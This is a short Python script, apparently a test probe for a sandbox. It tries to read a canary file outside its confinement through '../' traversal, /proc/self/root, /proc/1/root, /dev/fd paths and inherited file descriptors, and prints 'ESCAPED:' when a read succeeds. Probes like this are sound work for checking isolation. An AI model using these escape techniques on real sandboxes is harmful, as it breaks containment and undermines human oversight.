"""Climbs out by "..", by /proc/self/root and by descriptors it inherited.

Success: the canary is printed.
"""

import json
import os

targets = json.loads(input())
below = targets["canary"].lstrip("/")
up = "../" * 40
paths = [up + below, f"/proc/self/root/{below}", f"/proc/1/root/{below}", f"/proc/self/cwd/{up}{below}"]
for path in [*paths, f"/box/{up}{below}", f"/lib/{up}{below}", f"/dev/fd/0/../{up}{below}"]:
    try:
        with open(path) as file:
            print("ESCAPED:", file.read())
    except OSError:
        pass
for descriptor in range(3, 64):
    for way in (below, up + below):
        try:
            fd = os.open(way, os.O_RDONLY, dir_fd=descriptor)
            print("ESCAPED:", os.read(fd, 100).decode())
        except OSError:
            pass
    try:
        os.fchdir(descriptor)
        with open(up + below) as file:
            print("ESCAPED:", file.read())
    except OSError:
        pass
print("done")
